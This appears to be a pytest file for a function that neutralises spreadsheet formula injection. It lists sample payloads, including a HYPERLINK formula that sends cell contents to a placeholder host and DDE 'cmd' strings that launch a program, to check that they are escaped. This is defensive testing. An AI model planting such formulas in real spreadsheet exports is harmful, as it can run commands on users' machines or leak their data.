"""Texts that a spreadsheet program would evaluate are made inert; numbers stay numbers."""

from __future__ import annotations

import pytest

from warehouse.spreadsheet import inert

MALICIOUS = [
    '=HYPERLINK("http://example.invalid/?"&A1)',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n贵阳市",
    " =1+1",
    "　＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "-贵阳市",
]


@pytest.mark.parametrize("text", MALICIOUS)
def test_what_could_start_a_formula_is_a_text(text: str) -> None:
    assert inert(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "贵阳市", "-0.02", "+12.5", "-1,234.50", "-3%", "2.77", "a=b", "'=1", "2-3", "—"])
def test_numbers_and_plain_texts_stay_as_they_are(text: str) -> None:
    assert inert(text) == text
